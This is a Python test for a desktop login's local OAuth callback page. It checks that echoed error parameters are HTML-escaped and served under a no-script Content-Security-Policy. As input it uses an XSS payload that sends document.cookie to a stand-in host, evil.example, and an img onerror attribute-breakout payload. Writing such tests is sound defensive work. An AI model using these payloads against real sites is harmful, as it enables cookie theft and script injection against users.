"""The desktop login's callback page (http://localhost:53682, an origin the router's CORS
allows) echoes ?error and ?error_description escaped, under a policy that runs no script."""

from __future__ import annotations

import httpx

from gui.callback_server import CallbackServer
from tests.fixtures.redis_servers import free_port

SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>"


def test_what_the_page_echoes_cannot_run_as_script() -> None:
    port = free_port()
    with CallbackServer(port):
        page = httpx.get(
            f"http://127.0.0.1:{port}/callback",
            params={"error": SCRIPT, "error_description": '"><img src=x onerror=alert(1)>'},
        )
    assert page.status_code == 400
    assert "<script>" not in page.text and "<img" not in page.text
    assert "&lt;script&gt;" in page.text
    assert page.headers["content-security-policy"].startswith("default-src 'none'")
    assert page.headers["x-content-type-options"] == "nosniff"
